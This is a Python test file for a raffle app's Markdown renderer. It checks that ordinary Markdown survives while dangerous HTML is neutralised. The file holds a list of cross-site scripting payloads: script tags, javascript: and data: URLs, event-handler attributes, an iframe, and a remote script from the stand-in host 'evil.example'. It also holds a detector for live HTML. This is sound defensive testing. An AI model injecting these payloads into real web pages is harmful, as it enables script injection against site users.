"""Operators' Markdown rendered for players: what Markdown makes survives, every way of
running script or loading something unasked comes out inert."""

from __future__ import annotations

import re

import pytest

from raffle.adapters.markdown import render

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '<img src=x onerror="alert(1)">',
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<iframe src=https://evil.example></iframe>",
    "<svg><script>alert(1)</script></svg>",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "<!-- comment --><style>body{}</style>",
    "`<script>`",
    "    <script>alert(1)</script>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '<https://ok.example/?q="><script>alert(1)</script>>',
]

# What a browser would run or fetch: an element that is not Markdown's, an attribute beyond
# href/src/alt/title/start/rel, or a URL with a scheme other than http(s)/mailto.
_TAG = re.compile(r"<\s*([a-zA-Z0-9]+)([^>]*)>")
_ATTRIBUTE = re.compile(r'([a-zA-Z-]+)="([^"]*)"')
_MARKDOWN_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s",
    "code", "pre", "blockquote", "ul", "ol", "li", "a", "img",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


def live_parts(html: str) -> list[str]:
    found = []
    for tag, attributes in _TAG.findall(html):
        if tag.lower() not in _MARKDOWN_TAGS:
            found.append(f"<{tag}>")
        for name, value in _ATTRIBUTE.findall(attributes):
            if name not in {"href", "src", "alt", "title", "start", "rel"}:
                found.append(name)
            elif name in {"href", "src"} and not re.match(r"(https?:|mailto:)", value):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("markdown", VECTORS)
def test_script_event_attributes_and_unsafe_urls_come_out_inert(markdown: str) -> None:
    html = render(markdown)
    assert live_parts(html) == [], html
    assert "<script" not in html.lower()


def test_raw_html_is_shown_as_text() -> None:
    assert render("<b onclick=x>hi</b>") == "<p>&lt;b onclick=x&gt;hi&lt;/b&gt;</p>\n"


def test_markdown_itself_survives() -> None:
    html = render(
        "# 标题\n\n**粗** _斜_ ~~删~~ `code`\n\n- 一\n- 二\n\n3. 三\n\n> 引\n\n"
        "[链接](https://example.com) ![图](https://example.com/a.png)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in (
        "<h1>标题</h1>", "<strong>粗</strong>", "<em>斜</em>", "<s>删</s>", "<code>code</code>",
        "<li>一</li>", '<ol start="3">', "<blockquote>", "<td>1</td>",
        '<a href="https://example.com" rel="noopener noreferrer nofollow">链接</a>',
        '<img src="https://example.com/a.png" alt="图">',
    ):  # fmt: skip
        assert part in html, (part, html)


def test_a_detector_that_passes_everything_would_be_caught() -> None:
    # The checker itself can fail: live HTML is reported.
    assert live_parts('<img src="javascript:x" onerror="y"><script>') == [
        "src=javascript:x",
        "onerror",
        "<script>",
    ]
